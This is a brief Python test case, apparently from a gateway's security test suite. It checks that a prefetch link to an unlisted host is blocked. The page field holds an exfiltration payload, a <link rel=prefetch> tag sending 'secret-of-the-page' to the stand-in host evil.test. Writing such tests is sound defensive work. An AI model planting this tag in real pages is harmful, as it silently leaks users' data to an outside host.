"""`<link rel=prefetch>` has the browser load a page that nobody has opened, for later.

Nothing of it is shown, and no script has to run: the address that is loaded carries the data.

Not covered: prefetching from permitted sites.
"""

ATTACK = {
    "title": "Prefetch of a page of an unlisted site",
    "group": "browser",
    "layer": "gateway",
    "risk": "exfiltration",
    "references": ["HTML: link type prefetch", "CWE-201"],
    "arrives": [{"what": "request", "name": "evil.test", "path": "/prefetched*"}],
    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
    "page": "<link rel=prefetch href='http://evil.test/prefetched?data=secret-of-the-page'><h1>News</h1>",
}
